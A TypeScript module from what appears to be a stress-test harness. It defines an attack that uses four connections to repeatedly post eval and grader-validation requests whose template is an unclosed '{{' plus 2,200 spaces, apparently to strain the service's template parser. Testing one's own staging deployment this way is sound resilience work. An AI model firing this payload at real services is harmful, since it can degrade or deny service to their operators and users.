import type { Attack } from '../attack.ts'
import { jobList, readiness } from '../probes.ts'
import { keepAsking } from './connections.ts'

const connections = 4
const blanks = 2200

export const templates: Attack = {
  name: 'templates',
  what: 'four connections make evals and check graders whose templates open a name and never close it: "{{" and 2,200 blanks',
  seconds: 30,
  probes: (stage) => [readiness(stage), jobList(stage)],
  async run({ signal, ask, underway }) {
    const text = `{{${' '.repeat(blanks)}`
    const grader = { type: 'string_check', name: 'open', operation: 'eq', input: text, reference: text }
    const config = { type: 'custom', item_schema: { type: 'object' } }
    underway()
    await keepAsking(connections, signal, (connection, turn) =>
      (connection + turn) % 2 === 0
        ? ask('POST', '/openai/v1/evals', { data_source_config: config, testing_criteria: [grader] })
        : ask('POST', '/openai/v1/fine_tuning/alpha/graders/validate', { grader }),
    )
  },
}
